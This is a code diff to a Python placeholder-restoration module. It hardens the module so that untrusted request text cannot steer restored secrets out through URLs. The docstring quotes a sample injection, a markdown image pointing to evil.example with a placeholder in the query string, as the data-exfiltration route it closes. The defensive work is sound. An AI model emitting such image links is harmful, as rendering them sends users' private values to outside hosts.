@@ -3,19 +3,49 @@
 A placeholder is ``[[TYPE_N]]``: TYPE is ``[A-Z][A-Z0-9_]*``, N counts per type from 1 in
 order of first appearance, and one (type, value) pair keeps one placeholder for the whole
 request. Values are secrets: nothing here logs them or puts them in an exception message.
+
+Restore is a way out for values, so two rules keep untrusted text from steering it:
+- a placeholder already written in the request (a pasted document with
+  ``![x](https://evil.example/p.png?n=[[PERSON_1]])``) is never issued: numbering skips it,
+  so the planted text stays literal in the answer;
+- a placeholder inside a URL (the run of non-space text before it holds ``//``, ``www.``
+  or a markdown link target ``](``) is never filled, whoever wrote it: a value in a URL
+  leaves the company the moment a client renders the image.
 """
 
 from __future__ import annotations
 
 import json
 import re
+from collections.abc import Iterable
 
-__all__ = ["PLACEHOLDER_RE", "PlaceholderMap", "StreamRestorer"]
+__all__ = ["PLACEHOLDER_RE", "PlaceholderMap", "StreamRestorer", "in_url"]
 
 # Any text shaped like a placeholder; only those this map issued are replaced. Because the
 # inside can hold no bracket, two matches never overlap, so chunked and whole-text scans agree.
 PLACEHOLDER_RE = re.compile(r"\[\[[A-Z][A-Z0-9_]*_[1-9][0-9]*\]\]")
 _TYPE_RE = re.compile(r"[A-Z][A-Z0-9_]*")
+# How far back restore looks for a URL around a placeholder; a run of non-space text
+# longer than this is treated as a URL (never filled), so the bound only errs safe.
+URL_CONTEXT_CHARS = 2048
+_BREAK = re.compile(r"\s")
+_JSON_BREAK = re.compile(r"\s|\\[nrt]")
+
+
+def in_url(before: str, *, json_text: bool = False) -> bool:
+    """True if a placeholder right after ``before`` (the raw text preceding it) is in a URL."""
+    window = before[-URL_CONTEXT_CHARS:]
+    breaks = list((_JSON_BREAK if json_text else _BREAK).finditer(window))
+    if not breaks:
+        if len(before) >= URL_CONTEXT_CHARS:
+            return True
+        run = window
+    else:
+        run = window[breaks[-1].end() :]
+    if json_text:
+        run = run.replace("\\/", "/")
+    lowered = run.lower()
+    return "//" in lowered or "www." in lowered or "](" in lowered
 
 
 def _json_escape(value: str) -> str:
@@ -26,14 +56,21 @@ def _json_escape(value: str) -> str:
 class PlaceholderMap:
     """The placeholders issued for one request and the values they stand for."""
 
-    __slots__ = ("_by_key", "_counts", "_max_len", "_prefixes", "_values")
+    __slots__ = ("_by_key", "_counts", "_max_len", "_prefixes", "_reserved", "_values")
 
     def __init__(self) -> None:
+        self._reserved: set[str] = set()
         self._by_key: dict[tuple[str, str], str] = {}
         self._values: dict[str, str] = {}
         self._counts: dict[str, int] = {}
         self._prefixes: frozenset[str] | None = None
         self._max_len = 0
+
+    def reserve(self, texts: Iterable[str]) -> None:
+        """Never issue a placeholder that one of ``texts`` (the request) already contains."""
+        for text in texts:
+            if "[[" in text:
+                self._reserved.update(PLACEHOLDER_RE.findall(text))
 
     def placeholder_for(self, entity_type: str, value: str) -> str:
         """The placeholder for ``value`` of ``entity_type``, issuing a new one on first sight."""
@@ -44,8 +81,11 @@ class PlaceholderMap:
         if existing is not None:
             return existing
         number = self._counts.get(entity_type, 0) + 1
-        self._counts[entity_type] = number
         placeholder = f"[[{entity_type}_{number}]]"
+        while placeholder in self._reserved:  # planted by the request: skip it
+            number += 1
+            placeholder = f"[[{entity_type}_{number}]]"
+        self._counts[entity_type] = number
         self._by_key[key] = placeholder
         self._values[placeholder] = value
         self._prefixes = None
@@ -56,17 +96,32 @@ class PlaceholderMap:
         """The value behind ``placeholder``, or None if this map never issued it."""
         return self._values.get(placeholder)
 
-    def restore(self, text: str) -> str:
-        """``text`` with every issued placeholder replaced by its value."""
-        if not self._values or "[[" not in text:
-            return text
-        return PLACEHOLDER_RE.sub(self._plain, text)
+    def restore(self, text: str, before: str = "") -> str:
+        """``text`` with every issued placeholder replaced by its value, except inside a
+        URL; ``before`` is the raw text that preceded ``text`` (streaming)."""
+        return self._sub(text, before, json_text=False)
 
-    def restore_json_string_content(self, text: str) -> str:
+    def restore_json_string_content(self, text: str, before: str = "") -> str:
         """Like :meth:`restore`, for raw JSON text: inserted values are JSON-string-escaped."""
+        return self._sub(text, before, json_text=True)
+
+    def _sub(self, text: str, before: str, *, json_text: bool) -> str:
         if not self._values or "[[" not in text:
             return text
-        return PLACEHOLDER_RE.sub(self._escaped, text)
+        values = self._values
+
+        def fill(match: re.Match[str]) -> str:
+            placeholder = match.group(0)
+            value = values.get(placeholder)
+            if value is None:
+                return placeholder
+            start = match.start()
+            lead = before[-URL_CONTEXT_CHARS:] + text[max(0, start - URL_CONTEXT_CHARS) : start]
+            if in_url(lead[-URL_CONTEXT_CHARS:], json_text=json_text):
+                return placeholder
+            return _json_escape(value) if json_text else value
+
+        return PLACEHOLDER_RE.sub(fill, text)
 
     @property
     def max_placeholder_len(self) -> int:
@@ -78,13 +133,6 @@ class PlaceholderMap:
         if self._prefixes is None:
             self._prefixes = frozenset(p[:i] for p in self._values for i in range(1, len(p)))
         return text in self._prefixes
-
-    def _plain(self, match: re.Match[str]) -> str:
-        return self._values.get(match.group(0), match.group(0))
-
-    def _escaped(self, match: re.Match[str]) -> str:
-        value = self._values.get(match.group(0))
-        return match.group(0) if value is None else _json_escape(value)
 
     def __len__(self) -> int:
         return len(self._values)
@@ -105,12 +153,14 @@ class StreamRestorer:
     equals restoring the whole text at once.
     """
 
-    __slots__ = ("_held", "_json_escape", "_mapping")
+    __slots__ = ("_before", "_held", "_json_escape", "_mapping")
 
     def __init__(self, mapping: PlaceholderMap, *, json_escape: bool = False) -> None:
         self._mapping = mapping
         self._json_escape = json_escape
         self._held = ""
+        # The raw text released so far (its tail): the URL check looks back across deltas.
+        self._before = ""
 
     @property
     def held(self) -> str:
@@ -130,9 +180,11 @@ class StreamRestorer:
         return self._restore(text)
 
     def _restore(self, text: str) -> str:
+        before = self._before
+        self._before = (before + text)[-URL_CONTEXT_CHARS:]
         if self._json_escape:
-            return self._mapping.restore_json_string_content(text)
-        return self._mapping.restore(text)
+            return self._mapping.restore_json_string_content(text, before)
+        return self._mapping.restore(text, before)
 
     def _hold_from(self, text: str) -> int:
         # The earliest start whose suffix could still grow into an issued placeholder; any
